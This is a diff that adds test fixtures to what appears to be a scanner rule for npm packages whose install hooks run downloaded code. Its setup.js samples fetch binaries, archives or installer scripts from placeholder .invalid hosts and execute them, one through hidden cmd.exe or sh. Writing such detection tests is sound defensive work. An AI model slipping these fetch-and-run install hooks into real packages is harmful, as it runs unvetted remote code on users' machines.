@@ -16,6 +16,40 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a function checks what was fetched against the integrity that another file has, and a page says nothing of the host',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
+        'README.md':
+          '# specimen\n\nMakes style sheets smaller. Its program comes with an optional dependency, or is fetched and held against the hash that is in the package.',
+        'parts.js': `exports.integrity = 'sha512-${'Ab9/'.repeat(21)}Ab==';`,
+        'setup.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { execFileSync } = require('child_process'); const file = path.join(__dirname, 'lib', 'specimen-' + process.arch);
+          function check(buffer, integrity) { const actual = 'sha512-' + createHash('sha512').update(buffer).digest('base64'); if (actual !== integrity) throw new Error('changed'); }
+          https.get('https://parts.inert.invalid/specimen', answer => { const chunks = []; answer.on('data', one => chunks.push(one)); answer.on('end', () => { const archive = Buffer.concat(chunks); check(archive, require('./parts').integrity); fs.writeFileSync(file, archive); execFileSync(file, ['serve']); }); });`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'an archive is held against its hash before it is unpacked, and a program of it started',
+      files: {
+        'package.json': hook,
+        'setup.js': `const fs = require('fs'), path = require('path'), os = require('os'), https = require('https'), { createHash } = require('crypto'), { execFileSync, spawnSync } = require('child_process'); const into = path.join(__dirname, 'vendor'); const want = '${'0123456789abcdef'.repeat(4)}';
+          const tmp = path.join(os.tmpdir(), 'specimen.tar.gz'); https.get('https://parts.inert.invalid/specimen.tar.gz', answer => answer.pipe(fs.createWriteStream(tmp)).on('finish', () => { const got = createHash('sha256').update(fs.readFileSync(tmp)).digest('hex'); if (got !== want) throw new Error('changed'); execFileSync('tar', ['-xzf', tmp, '-C', into]); spawnSync(path.join(into, 'specimen'), ['warm-up']); }));`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a hook starts the installer of another program, whose host its page names, on each system',
+      files: {
+        'package.json': hook,
+        'README.md':
+          '# specimen\n\nSets up Inertex with its own installer from https://inertex.invalid/ when it is installed, unless it is there.',
+        'setup.js': `const { spawn } = require('child_process'), { writeFileSync } = require('fs'), os = require('os'), path = require('path'); const run = (program, words) => spawn(program, words, { windowsHide: true }); const get = async url => (await fetch(url)).text();
+          (async () => { const dir = path.join(os.tmpdir(), 'specimen-setup'); if (process.platform === 'win32') { const file = path.join(dir, 'install.bat'); writeFileSync(file, await get('https://inertex.invalid/install.bat')); run('cmd.exe', ['/d', '/c', file]); } else { const file = path.join(dir, 'install.sh'); writeFileSync(file, await get('https://inertex.invalid/install.sh')); run('sh', [file]); } })();`,
+      },
+      weight: 'strong',
+      count: 1,
+    },
+    {
       when: 'a template is fetched by giget, and a file of it is imported from where it was put',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
